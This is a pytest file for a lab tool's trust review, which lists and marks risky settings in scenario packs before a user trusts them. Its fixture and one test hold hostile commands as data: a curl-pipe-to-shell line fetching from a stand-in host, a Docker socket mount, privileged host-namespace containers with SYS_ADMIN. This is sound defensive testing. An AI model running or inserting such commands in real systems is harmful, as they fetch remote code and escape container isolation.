"""The trust question shows what a pack really runs, and asks again when any of it changes.

A hostile pack: a container in the host's PID and network namespaces with
SYS_ADMIN, a check that downloads a script and pipes it into a shell, an answer
computed by a command that mounts the Docker socket, and a solution that runs a
privileged container. Each of those is listed and marked; nothing is hidden in
a one-line summary.
"""

from __future__ import annotations

from pathlib import Path

import yaml

from labtui.engine.trust import command_risks, is_trusted, preview, review, trust
from labtui.scenario.catalog import Catalog
from tests.test_cli import labtui

HOSTILE = {
    "format_version": 1,
    "id": "hostile",
    "title": "Looks harmless",
    "topic": "containers",
    "requires": ["docker"],
    "environment": {
        "include": ["files"],
        "containers": [
            {
                "name": "c",
                "image": "busybox:1.36",
                "command": ["sleep", "1d"],
                "pid": "host",
                "network": "host",
                "cap_add": ["SYS_ADMIN"],
                "security_opt": ["apparmor=unconfined"],
            }
        ],
    },
    "tasks": [
        {
            "id": "t",
            "title": "T",
            "checks": [
                {"kind": "command", "command": ["sh", "-c", "curl -s http://example.invalid/x | sh"]},
                {
                    "kind": "answer",
                    "expected": {
                        "command": [
                            "docker", "run", "--rm", "-v", "/var/run/docker.sock:/s", "busybox", "id",
                        ]
                    },
                },
            ],
            "solution": {
                "run": [["docker", "run", "--privileged", "--pid=host", "busybox", "true"]],
                "answer": "x",
            },
        }
    ],
}


def write(root: Path) -> Path:
    folder = root / "pack" / "hostile"
    (folder / "files").mkdir(parents=True)
    (folder / "files" / "setup.sh").write_text("echo hello\n")
    (folder / "scenario.yaml").write_text(yaml.safe_dump(HOSTILE, sort_keys=False))
    return root / "pack"


def test_every_privilege_raising_setting_and_command_is_listed_and_marked(tmp_path: Path) -> None:
    entry = Catalog([write(tmp_path)], include_builtin=False).find("hostile")
    assert entry.scenario is not None
    findings = review(entry.scenario)
    container = next(f for f in findings if f.where == "container c")
    for flag in ("--pid=host", "--network=host", "--cap-add=SYS_ADMIN", "--security-opt=apparmor=unconfined"):
        assert flag in container.text
    assert container.risk is not None
    for why in ("host's PID namespace", "host's network namespace", "capability SYS_ADMIN", "apparmor=unconfined"):
        assert why in container.risk

    by_text = {f.text: f for f in findings}
    download = by_text["sh -c 'curl -s http://example.invalid/x | sh'"]
    assert download.where == "check"
    assert download.risk is not None and "pipes text into a shell" in download.risk
    assert "downloads with curl" in download.risk

    socket = next(f for f in findings if "docker.sock" in f.text)
    assert socket.where == "check (computes an answer)"
    assert socket.risk is not None and "Docker socket" in socket.risk

    privileged = next(f for f in findings if f.where == "solution")
    assert privileged.risk is not None
    assert "privileged" in privileged.risk and "host's pid namespace" in privileged.risk
    assert [f.line for f in preview(entry.scenario)] == [f.line for f in findings]


def test_ordinary_commands_are_not_marked() -> None:
    assert command_risks(["docker", "exec", "c1", "ps", "aux"]) == []
    assert command_risks(["sh", "-c", "ls -A /tmp | wc -l"]) == []
    assert command_risks(["docker", "run", "-d", "--name", "c2", "--pid=container:c1", "busybox"]) == []
    assert command_risks(["docker", "run", "--network", "none", "busybox"]) == []
    assert command_risks(["docker", "run", "--network", "host", "busybox"]) == [
        "shares the host's network namespace"
    ]


def test_a_change_to_an_included_file_asks_again(tmp_path: Path) -> None:
    pack = write(tmp_path)
    entry = Catalog([pack], include_builtin=False).find("hostile")
    trust(entry)
    assert is_trusted(entry)
    (pack / "hostile" / "files" / "setup.sh").write_text("curl -s http://example.invalid | sh\n")
    assert not is_trusted(Catalog([pack], include_builtin=False).find("hostile"))


def test_labtui_trust_shows_the_risks_before_asking(tmp_path: Path) -> None:
    pack = str(write(tmp_path))
    shown = labtui("--scenarios", pack, "trust", "hostile")
    assert shown.returncode == 1  # no terminal to ask on: not trusted, nothing run
    out = shown.stdout
    assert "container c: docker run -d --name c --pid=host --network=host" in out
    assert "! check: sh -c 'curl -s http://example.invalid/x | sh'" in out
    assert "pipes text into a shell" in out and "Docker socket" in out
    assert "4 of these reach beyond the lab (marked !)" in out
